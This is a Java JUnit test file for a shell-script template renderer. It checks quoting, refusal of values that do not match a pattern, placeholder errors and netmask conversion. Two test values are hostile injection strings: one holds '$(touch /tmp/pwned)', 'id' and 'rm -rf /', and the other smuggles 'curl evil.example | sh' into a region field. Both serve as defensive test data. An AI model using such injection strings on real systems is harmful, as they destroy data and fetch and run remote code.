package hipaa.access;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The renderer that fills user-data scripts: each value stays exactly one shell word, or rendering fails. */
class ShellTemplateTest {

    private static final Pattern ANY = Pattern.compile("[\\s\\S]*");

    @Test
    void quotingKeepsEveryCharacterLiteralWhenBashReadsIt() throws Exception {
        var hostile = "it's $(touch /tmp/pwned) `id` \"$HOME\" ; rm -rf / #\nsecond line";
        var script = ShellTemplate.load("test-template.sh")
                .word("ONE", hostile, ANY)
                .words("MANY", List.of("a b", "c'd", "$e"), ANY)
                .render();
        assertThat(bash(script)).isEqualTo(hostile + "\na b\nc'd\n$e\n");
    }

    @Test
    void quoteEscapesOnlyTheSingleQuote() {
        assertThat(ShellTemplate.quote("it's")).isEqualTo("'it'\\''s'");
        assertThat(ShellTemplate.quote("")).isEqualTo("''");
    }

    @Test
    void aValueOutsideItsPatternIsRefused() {
        var template = ShellTemplate.load("test-template.sh");
        assertThatThrownBy(() -> template.word("ONE", "us-east-1'; curl evil.example | sh #", BastionScript.REGION))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("{{ONE}}").hasMessageContaining("does not match");
    }

    @Test
    void aPlaceholderWithoutAValueFailsTheRender() {
        var template = ShellTemplate.load("test-template.sh").word("ONE", "x", ANY);
        assertThatThrownBy(template::render).isInstanceOf(IllegalStateException.class)
                .hasMessage("test-template.sh: no value for {{MANY}}");
    }

    @Test
    void aValueWithoutAPlaceholderFailsTheRender() {
        var template = ShellTemplate.load("test-template.sh").word("ONE", "x", ANY).words("MANY", List.of(), ANY)
                .word("RENAMED", "y", ANY);
        assertThatThrownBy(template::render).isInstanceOf(IllegalStateException.class)
                .hasMessage("test-template.sh: values for placeholders it does not have: [RENAMED]");
    }

    @Test
    void netmasksAreTheDottedFormOfThePrefix() {
        assertThat(VpnScript.netmask("10.8.0.0/24")).isEqualTo("255.255.255.0");
        assertThat(VpnScript.netmask("10.100.64.0/21")).isEqualTo("255.255.248.0");
        assertThat(VpnScript.netmask("10.10.0.0/16")).isEqualTo("255.255.0.0");
        assertThat(VpnScript.netmask("10.8.0.16/28")).isEqualTo("255.255.255.240");
    }

    static String bash(String script) throws IOException, InterruptedException {
        var p = new ProcessBuilder("bash", "-s").redirectErrorStream(true).start();
        p.getOutputStream().write(script.getBytes(StandardCharsets.UTF_8));
        p.getOutputStream().close();
        var out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        assertThat(p.exitValue()).as(out).isZero();
        return out;
    }
}
